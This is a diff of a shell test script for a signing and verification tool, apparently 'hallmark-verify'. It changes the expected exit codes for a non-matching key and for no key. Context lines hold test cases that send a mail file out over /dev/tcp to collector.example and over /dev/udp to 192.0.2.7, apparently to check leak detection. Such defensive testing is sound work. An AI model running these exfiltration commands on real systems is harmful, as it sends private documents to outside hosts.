@@ -65,7 +65,9 @@ result "$([ $? -le 2 ]; echo $?)" "hallmark-verify runs as nobody, without an en
 result "$([ $? -ne 1 ]; echo $?)" "--require of an upheld claim"
 "$hallmark" keygen "$work/other.pem" >/dev/null
 "$verify" "$work/quiet.hallmark" --key "$work/other.pem.pub" --quiet
-result "$([ $? = 2 ]; echo $?)" "another key: not checked, exit 2"
+result "$([ $? = 1 ]; echo $?)" "a key that signed nothing: exit 1"
+"$verify" "$work/quiet.hallmark" --quiet
+result "$([ $? = 2 ]; echo $?)" "no key: integrity only, exit 2"
 
 leak plain 'exec 3<>/dev/tcp/collector.example/80; cat /srv/documents/letter.eml >&3; sleep 0.3' "sends a document by TCP"
 leak datagram 'exec 3<>/dev/udp/192.0.2.7/9999; head -c 1200 /srv/documents/letter.eml >&3; sleep 0.3' "sends a document by UDP to a literal address"
